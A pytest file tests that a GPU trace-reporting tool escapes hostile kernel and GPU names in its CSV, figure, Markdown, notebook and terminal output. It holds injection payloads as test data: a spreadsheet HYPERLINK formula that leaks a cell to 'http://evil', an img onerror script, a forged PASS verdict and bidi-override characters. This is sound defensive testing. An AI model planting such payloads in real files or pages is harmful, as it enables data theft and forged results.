"""Text from a trace reaches every output as text: a spreadsheet runs no formula from it, a CSV
reader gets the rows written, a figure draws no link or TeX, Markdown renders no forged verdict,
a notebook runs no script, a terminal line is not reversed. The example trace's kernel with the
most time and its GPU are renamed with such text."""

from __future__ import annotations

import copy
import csv
import gzip
import json
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from kernel_atlas.report import dashboard, html
from kernel_atlas.report.build import build_report
from kernel_atlas.report.markup import plain
from tests.support.hostile import cli
from tests.support.traces import EXAMPLE

NAME = '=HYPERLINK("http://evil/?"&A1)\rX<a href="http://evil/x">L</a> $\\href{http://evil/m}{M}$ <img src=x onerror=alert(1)>'
MARKUP = '<a href="http://evil/x">L</a> $\\href{http://evil/m}{M}$'  # plotly's HTML subset, TeX
GPU = "NVIDIA H100 80GB HBM3\r\r**PASS: nothing regressed** ![ok](http://evil/p.png) <b>x</b> `y"


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    doc = json.loads(gzip.decompress(EXAMPLE.read_bytes()))
    time: dict[str, float] = {}
    for event in doc["traceEvents"]:
        if event.get("cat") == "kernel":
            time[event["name"]] = time.get(event["name"], 0.0) + event["dur"]
    longest = max(time, key=time.__getitem__)  # the kernel with the most GPU time
    hostile = copy.deepcopy(doc)
    for event in hostile["traceEvents"]:
        if event.get("name") == longest:
            event["name"] = NAME
    copies = [e for e in hostile["traceEvents"] if e.get("cat") == "gpu_memcpy"]
    modules = [e for e in hostile["traceEvents"] if str(e.get("name", "")).startswith("nn.Module: ")]
    for event in copies:  # figures shorten kernel names, but show a copy's and a module's whole
        event["name"] = "Memcpy HtoD " + MARKUP
    for event in modules:
        event["name"] = event["name"].replace("nn.Module: ", "nn.Module: " + MARKUP, 1)
    assert copies and modules
    for props in hostile.get("deviceProperties", []):
        props["name"] = GPU
    folder = tmp_path_factory.mktemp("text")
    outs = {}
    for key, document in (("plain", doc), ("hostile", hostile)):
        trace = folder / f"{key}.json"
        trace.write_text(json.dumps(document))
        outs[key] = folder / key
        assert cli("ingest", trace, "-o", outs[key], "-q").code == 0
    return outs


@pytest.fixture(scope="module")
def report(runs: dict[str, Path]) -> Any:
    return build_report(runs["hostile"])


def test_csv_reads_back_the_rows_written_and_runs_no_formula(report: Any) -> None:
    path = report.files["timeshare"]
    written = report.analysis.timeshare
    for rows in (pd.read_csv(path), list(csv.DictReader(path.open(newline="", encoding="utf-8")))):
        assert len(rows) == len(written)  # a lone CR no longer splits a row
    keys = pd.read_csv(path)["key"].tolist()
    assert "'" + NAME in keys  # the CR kept inside its quoted cell, the formula shown as text
    assert not [k for k in keys if isinstance(k, str) and k.startswith(("=", "+", "@"))]
    assert pd.read_csv(path)["total_us"].sum() == pytest.approx(written["total_us"].sum())  # numbers as they were


def test_figures_draw_trace_text_as_written(report: Any) -> None:
    for figure in (html.timeshare_figure(report.analysis), html.module_figure(report.views.modules)):
        shown = json.dumps(figure["data"], default=lambda array: array.tolist())
        assert "&lt;a href=" in shown and "&#36;\\\\href" in shown
        assert "<a href" not in shown and "$\\\\href" not in shown and "<img" not in shown


def test_markdown_renders_no_forged_verdict(runs: dict[str, Path], tmp_path: Path) -> None:
    md = tmp_path / "gate.md"
    result = cli("diff", runs["plain"], runs["hostile"], "--markdown", md)
    assert result.code == 0, result.output
    text = md.read_text()
    assert "\r" not in text and "**PASS" not in text and "![" not in text and "<b>" not in text
    gpu_line = next(line for line in text.splitlines() if line.startswith("- B:"))
    assert "\\*\\*PASS: nothing regressed\\*\\* \\!\\[ok\\](http://evil/p.png) \\<b\\>x\\</b\\> \\`y" in gpu_line


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("aten::mm\u202e", "aten::mm\\u202e"),  # an override that reverses the rest of the line
        ("aten::m\u200bm", "aten::m\\u200bm"),  # zero width: two names that print alike
        ("x\u2066y\u2069", "x\\u2066y\\u2069"),
        ("soft\u00adhyphen", "soft\\xadhyphen"),
        ("line\u2028break", "line\\u2028break"),  # no quotes around it any more
        ("void k<float> ü 漢字", "void k<float> ü 漢字"),  # what prints as itself is kept
    ],
)
def test_format_characters_print_as_escapes(text: str, shown: str) -> None:
    assert plain(text) == shown


def test_notebook_html_is_text_and_never_typeset() -> None:
    snippet = dashboard.display_output(f"<b>{dashboard.text(NAME)}</b>")["data"]["text/html"]
    assert snippet.startswith("<div class='tex2jax_ignore mathjax_ignore'>")
    assert "<img" not in snippet and "&lt;img src=x onerror=alert(1)&gt;" in snippet
    table = dashboard.table_html(pd.DataFrame({"name": [NAME]}))
    assert "mathjax_ignore" in table and "<img" not in table


def test_dashboard_notebook_shows_the_kernel_name_as_text(runs: dict[str, Path]) -> None:
    pytest.importorskip("nbclient")
    pytest.importorskip("ipywidgets")
    from kernel_atlas.report.notebooks import execute

    notebook = execute("dashboard", {"ATLAS_OUT": str(runs["hostile"])})
    state = json.dumps(notebook.metadata.get("widgets", {}))
    assert "onerror=alert(1)" in state  # the kernel with the most time is the one the panel shows first
    assert "<img src=x" not in state and "&lt;img src=x onerror=alert(1)&gt;" in state


def test_the_csv_escape_is_undone_by_one_apostrophe(tmp_path: Path) -> None:
    # names that a spreadsheet would run, and names that already begin with an apostrophe: four keys,
    # each read back exactly by stripping one leading apostrophe (the escape had made two pairs of them equal)
    from kernel_atlas.store.outputs import write_csv

    names = ["=SUM(1)", "'=SUM(1)", "-1", "'-1", "plain", "''x"]
    path = write_csv(pd.DataFrame({"key": names, "total_us": [1.0] * 6}), tmp_path / "t.csv")
    written = pd.read_csv(path, keep_default_na=False)["key"]
    assert written.nunique() == 6
    assert written.str.removeprefix("'").tolist() == names
